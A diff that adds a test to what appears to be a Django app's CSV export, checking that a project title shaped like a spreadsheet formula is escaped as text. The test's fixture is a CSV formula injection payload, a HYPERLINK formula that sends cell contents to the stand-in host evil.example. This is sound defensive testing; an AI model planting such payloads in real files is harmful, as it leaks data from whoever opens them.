@@ -69,3 +69,16 @@ def test_it_only_answers_get(client, bob):
     client.force_login(bob)
 
     assert client.post(URL).status_code == 405
+
+
+def test_its_files_keep_text_that_looks_like_a_formula_as_text(client, bob, alice):
+    from tests.builders import make_project
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    make_project(key="EVIL", title=title, researcher=alice, product_manager=bob)
+    client.force_login(bob)
+
+    files = archive(client.get(URL))
+
+    projects = files.read("projects.csv").decode("utf-8").splitlines()
+    assert projects[1].startswith('EVIL,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"')
